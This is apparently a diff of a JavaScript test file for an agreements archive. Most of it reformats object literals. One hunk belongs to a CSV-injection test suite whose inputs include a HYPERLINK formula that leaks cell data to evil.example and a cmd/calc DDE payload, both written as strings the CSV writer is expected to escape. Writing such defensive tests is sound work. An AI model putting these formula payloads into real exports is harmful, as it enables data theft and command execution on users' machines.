@@ -102,14 +102,24 @@ describe('exportAgreement', () => {
           dated: false,
           status: 'announced',
           note: 'Issued after the talks.',
-          article: { id: '2022/tokyo', url: articleUrl('2022/tokyo'), title: 'Biden and Kishida meet in Tokyo', date: '2022-05-23' },
+          article: {
+            id: '2022/tokyo',
+            url: articleUrl('2022/tokyo'),
+            title: 'Biden and Kishida meet in Tokyo',
+            date: '2022-05-23',
+          },
         },
         {
           date: '2022-06-30',
           dated: true,
           status: 'signed',
           note: null,
-          article: { id: '2022/signing', url: articleUrl('2022/signing'), title: 'Statement signed', date: '2022-07-01' },
+          article: {
+            id: '2022/signing',
+            url: articleUrl('2022/signing'),
+            title: 'Statement signed',
+            date: '2022-07-01',
+          },
         },
       ],
     });
@@ -203,7 +213,10 @@ describe('agreementsCsv', () => {
         agreementMention('x', { status: 'signed', date: '2022-05-20' }),
       ],
     });
-    const once = articleRecord('2022/once', { date: '2022-06-01', agreements: [agreementMention('x', { status: 'in-force' })] });
+    const once = articleRecord('2022/once', {
+      date: '2022-06-01',
+      agreements: [agreementMention('x', { status: 'in-force' })],
+    });
     const built = buildArchive(archiveInput([twice, once]));
     expect(built.agreement('x')?.history).toHaveLength(3);
     const [, row] = agreementsCsv(built).split('\r\n');
@@ -270,7 +283,7 @@ describe('CSV injection (OWASP) and RFC 4180 in the one CSV writer', () => {
     ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', `'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`],
     ['=1+1', "'=1+1"],
     ['+1+1', "'+1+1"],
-    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
+    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
     ['@SUM(1+1)', "'@SUM(1+1)"],
     ['\t=1+1', "'\t=1+1"],
     ['\r=1+1', "'\r=1+1"],
